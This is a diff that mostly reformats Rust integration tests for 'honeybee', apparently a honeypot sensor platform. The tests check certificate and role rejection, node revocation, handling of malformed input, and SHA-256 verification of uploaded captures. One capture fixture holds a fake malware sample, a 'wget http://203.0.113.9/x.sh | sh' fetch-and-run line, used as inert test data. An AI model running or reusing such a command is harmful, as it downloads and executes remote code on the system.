@@ -24,7 +24,14 @@ fn ca_der(dep: &Deployment) -> Vec<u8> {
 fn enrolled(dep: &Deployment, name: &str) -> ClientId {
     let token = dep.token(name, &[]);
     let a = dep.agent_dir(name);
-    ok(&["agent", "enroll", "--token", &token, "--data-dir", a.to_str().unwrap()]);
+    ok(&[
+        "agent",
+        "enroll",
+        "--token",
+        &token,
+        "--data-dir",
+        a.to_str().unwrap(),
+    ]);
     agent_identity(&a)
 }
 
@@ -37,8 +44,12 @@ async fn hello(conn: &quinn::Connection) -> (quinn::SendStream, quinn::RecvStrea
         mode: NodeMode::Full,
         hostname: "test".into(),
     });
-    write_frame(&mut send, &msg, FrameLimit::CONTROL).await.unwrap();
-    let welcome: CoreMsg = read_frame(&mut recv, FrameLimit::CONTROL).await.expect("welcome");
+    write_frame(&mut send, &msg, FrameLimit::CONTROL)
+        .await
+        .unwrap();
+    let welcome: CoreMsg = read_frame(&mut recv, FrameLimit::CONTROL)
+        .await
+        .expect("welcome");
     (send, recv, welcome)
 }
 
@@ -73,7 +84,11 @@ async fn only_certificates_from_our_ca_with_the_right_role_get_in() {
     // Another CA, same trust domain and SAN: refused by the chain check.
     let foreign = honeybee_pki::ca::Ca::generate("test.honeybee").unwrap();
     let forged = issue(&foreign, Role::Agent, "good");
-    assert_refused(connect(addr(&dep), &ca, &forged, alpn::NODE).await, "foreign CA").await;
+    assert_refused(
+        connect(addr(&dep), &ca, &forged, alpn::NODE).await,
+        "foreign CA",
+    )
+    .await;
 
     // Self-signed with the genuine SAN copied: refused.
     let key = rcgen::KeyPair::generate_for(&rcgen::PKCS_ECDSA_P256_SHA256).unwrap();
@@ -86,7 +101,11 @@ async fn only_certificates_from_our_ca_with_the_right_role_get_in() {
         chain: vec![cert.der().clone()],
         key: honeybee_pki::keys::KeyPair::from_pem(&key.serialize_pem()).unwrap(),
     };
-    assert_refused(connect(addr(&dep), &ca, &selfsigned, alpn::NODE).await, "self-signed").await;
+    assert_refused(
+        connect(addr(&dep), &ca, &selfsigned, alpn::NODE).await,
+        "self-signed",
+    )
+    .await;
 
     // A module certificate from our own CA cannot open an agent session.
     let module = issue(&load_ca(&dep.core_dir()), Role::Module, "m1");
@@ -99,13 +118,18 @@ async fn only_certificates_from_our_ca_with_the_right_role_get_in() {
     assert_eq!(app_code(&e), Some(close::FORBIDDEN as u64), "{e}");
 
     // No client certificate at all on an mTLS ALPN.
-    let tls = honeybee_pki::tls::enroll_client_config(load_ca(&dep.core_dir()).pin(), alpn::NODE).unwrap();
+    let tls = honeybee_pki::tls::enroll_client_config(load_ca(&dep.core_dir()).pin(), alpn::NODE)
+        .unwrap();
     let (_ep, conn) = connect_with(addr(&dep), tls).await.unwrap();
     let e = closed_within(&conn, Duration::from_secs(5)).await;
     assert_eq!(app_code(&e), Some(close::FORBIDDEN as u64), "{e}");
 
     let audit = dep.audit();
-    assert!(audit.iter().any(|a| a["outcome"] == "forbidden role for ALPN"));
+    assert!(
+        audit
+            .iter()
+            .any(|a| a["outcome"] == "forbidden role for ALPN")
+    );
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -118,7 +142,8 @@ async fn revoking_a_live_node_cuts_it_off_within_a_second_for_good() {
     let _control = hello(&conn).await;
 
     let d = dep.d();
-    let revoke = tokio::task::spawn_blocking(move || ok(&["node", "revoke", "doomed", "--data-dir", &d]));
+    let revoke =
+        tokio::task::spawn_blocking(move || ok(&["node", "revoke", "doomed", "--data-dir", &d]));
     let e = closed_within(&conn, Duration::from_secs(10)).await;
     let closed_at = Instant::now();
     revoke.await.unwrap();
@@ -128,7 +153,11 @@ async fn revoking_a_live_node_cuts_it_off_within_a_second_for_good() {
     assert!(after_cli < Duration::from_secs(5), "sanity: {after_cli:?}");
 
     // Every later handshake with that certificate fails.
-    assert_refused(connect(addr(&dep), &ca, &id, alpn::NODE).await, "revoked reconnect").await;
+    assert_refused(
+        connect(addr(&dep), &ca, &id, alpn::NODE).await,
+        "revoked reconnect",
+    )
+    .await;
     let node = dep.node("doomed").unwrap();
     assert_eq!(node["revoked"], true);
     assert_eq!(node["online"], false);
@@ -161,31 +190,49 @@ async fn garbage_on_every_alpn_closes_that_connection_and_the_core_carries_on() 
         let (mut s, _r) = conn.open_bi().await.unwrap();
         s.write_all(payload).await.unwrap();
         let e = closed_within(&conn, Duration::from_secs(5)).await;
-        assert_eq!(app_code(&e), Some(close::PROTOCOL as u64), "enroll {name}: {e}");
+        assert_eq!(
+            app_code(&e),
+            Some(close::PROTOCOL as u64),
+            "enroll {name}: {e}"
+        );
 
         // Node ALPN, on the control stream in place of hello.
         let (_ep, conn) = connect(addr(&dep), &ca, &agent, alpn::NODE).await.unwrap();
         let (mut s, _r) = conn.open_bi().await.unwrap();
         s.write_all(payload).await.unwrap();
         let e = closed_within(&conn, Duration::from_secs(5)).await;
-        assert_eq!(app_code(&e), Some(close::PROTOCOL as u64), "node {name}: {e}");
+        assert_eq!(
+            app_code(&e),
+            Some(close::PROTOCOL as u64),
+            "node {name}: {e}"
+        );
 
         // Node ALPN, as a telemetry stream after a proper hello.
         let (_ep, conn) = connect(addr(&dep), &ca, &agent, alpn::NODE).await.unwrap();
         let _control = hello(&conn).await;
         let mut u = conn.open_uni().await.unwrap();
-        u.write_all(&[honeybee_proto::stream::StreamKind::Telemetry as u8]).await.unwrap();
+        u.write_all(&[honeybee_proto::stream::StreamKind::Telemetry as u8])
+            .await
+            .unwrap();
         u.write_all(payload).await.unwrap();
         let _ = u.finish();
         let e = closed_within(&conn, Duration::from_secs(5)).await;
-        assert_eq!(app_code(&e), Some(close::PROTOCOL as u64), "telemetry {name}: {e}");
+        assert_eq!(
+            app_code(&e),
+            Some(close::PROTOCOL as u64),
+            "telemetry {name}: {e}"
+        );
 
         // Admin ALPN.
         let (_ep, conn) = connect(addr(&dep), &ca, &admin, alpn::ADMIN).await.unwrap();
         let (mut s, _r) = conn.open_bi().await.unwrap();
         s.write_all(payload).await.unwrap();
         let e = closed_within(&conn, Duration::from_secs(5)).await;
-        assert_eq!(app_code(&e), Some(close::PROTOCOL as u64), "admin {name}: {e}");
+        assert_eq!(
+            app_code(&e),
+            Some(close::PROTOCOL as u64),
+            "admin {name}: {e}"
+        );
     }
 
     // An unknown stream kind.
@@ -195,14 +242,21 @@ async fn garbage_on_every_alpn_closes_that_connection_and_the_core_carries_on() 
     u.write_all(&[0x7e, 1, 2, 3]).await.unwrap();
     let _ = u.finish();
     let e = closed_within(&conn, Duration::from_secs(5)).await;
-    assert_eq!(app_code(&e), Some(close::PROTOCOL as u64), "unknown stream kind: {e}");
+    assert_eq!(
+        app_code(&e),
+        Some(close::PROTOCOL as u64),
+        "unknown stream kind: {e}"
+    );
 
     // The core still serves everyone else.
     let d = dep.d();
     let status = tokio::task::spawn_blocking(move || ok(&["status", "--json", "--data-dir", &d]))
         .await
         .unwrap();
-    assert!(status.contains("\"trust_domain\":\"test.honeybee\""), "{status}");
+    assert!(
+        status.contains("\"trust_domain\":\"test.honeybee\""),
+        "{status}"
+    );
     let (_ep, conn) = connect(addr(&dep), &ca, &agent, alpn::NODE).await.unwrap();
     let (_s, _r, welcome) = hello(&conn).await;
     assert!(matches!(welcome, CoreMsg::Welcome { .. }));
@@ -212,7 +266,9 @@ async fn garbage_on_every_alpn_closes_that_connection_and_the_core_carries_on() 
 async fn captures_are_verified_and_stored_content_addressed() {
     use honeybee_agent::transport::{read_frame, write_frame};
     use honeybee_proto::capture::{CaptureHeader, CaptureKind};
-    let mut dep = Deployment::init(|t| t.replace("max_capture_bytes = 67108864", "max_capture_bytes = 100000"));
+    let mut dep = Deployment::init(|t| {
+        t.replace("max_capture_bytes = 67108864", "max_capture_bytes = 100000")
+    });
     dep.start_core();
     let ca = ca_der(&dep);
     let agent = enrolled(&dep, "uploader");
@@ -220,12 +276,17 @@ async fn captures_are_verified_and_stored_content_addressed() {
     let (_s, mut ctl, _) = hello(&conn).await;
 
     let content = b"#!/bin/sh\nwget http://203.0.113.9/x.sh | sh\n".repeat(100);
-    let sha: [u8; 32] = ring::digest::digest(&ring::digest::SHA256, &content).as_ref().try_into().unwrap();
+    let sha: [u8; 32] = ring::digest::digest(&ring::digest::SHA256, &content)
+        .as_ref()
+        .try_into()
+        .unwrap();
     let upload = |size: u64, sha256: [u8; 32], body: Vec<u8>| {
         let conn = conn.clone();
         async move {
             let mut u = conn.open_uni().await.unwrap();
-            u.write_all(&[honeybee_proto::stream::StreamKind::Capture as u8]).await.unwrap();
+            u.write_all(&[honeybee_proto::stream::StreamKind::Capture as u8])
+                .await
+                .unwrap();
             let header = CaptureHeader {
                 size,
                 sha256,
@@ -235,29 +296,49 @@ async fn captures_are_verified_and_stored_content_addressed() {
                 time_ms: 0,
                 meta: vec![("filename".into(), "x.sh".into())],
             };
-            write_frame(&mut u, &header, FrameLimit::CAPTURE_HEADER).await.unwrap();
+            write_frame(&mut u, &header, FrameLimit::CAPTURE_HEADER)
+                .await
+                .unwrap();
             let _ = u.write_all(&body).await;
             let _ = u.finish();
         }
     };
     let mut next_capture_answer = async || loop {
-        match read_frame::<CoreMsg, _>(&mut ctl, FrameLimit::CONTROL).await.unwrap() {
+        match read_frame::<CoreMsg, _>(&mut ctl, FrameLimit::CONTROL)
+            .await
+            .unwrap()
+        {
             m @ (CoreMsg::CaptureStored { .. } | CoreMsg::CaptureRejected { .. }) => return m,
             _ => continue,
         }
     };
 
     upload(content.len() as u64, sha, content.clone()).await;
-    assert_eq!(next_capture_answer().await, CoreMsg::CaptureStored { sha256: sha });
-    let stored = dep.core_dir().join("captures").join(&hex::encode(sha)[..2]).join(hex::encode(sha));
+    assert_eq!(
+        next_capture_answer().await,
+        CoreMsg::CaptureStored { sha256: sha }
+    );
+    let stored = dep
+        .core_dir()
+        .join("captures")
+        .join(&hex::encode(sha)[..2])
+        .join(hex::encode(sha));
     assert_eq!(std::fs::read(&stored).unwrap(), content);
 
     let mut wrong = content.clone();
     wrong[0] = b'X';
     upload(wrong.len() as u64, sha, wrong).await;
-    assert!(matches!(next_capture_answer().await, CoreMsg::CaptureRejected { reason, .. } if reason.contains("SHA-256")));
+    assert!(
+        matches!(next_capture_answer().await, CoreMsg::CaptureRejected { reason, .. } if reason.contains("SHA-256"))
+    );
 
     upload(200_000, [7; 32], vec![0; 10]).await;
-    assert!(matches!(next_capture_answer().await, CoreMsg::CaptureRejected { reason, .. } if reason.contains("limit")));
-    assert_eq!(std::fs::read(&stored).unwrap(), content, "the stored capture is untouched");
+    assert!(
+        matches!(next_capture_answer().await, CoreMsg::CaptureRejected { reason, .. } if reason.contains("limit"))
+    );
+    assert_eq!(
+        std::fs::read(&stored).unwrap(),
+        content,
+        "the stored capture is untouched"
+    );
 }
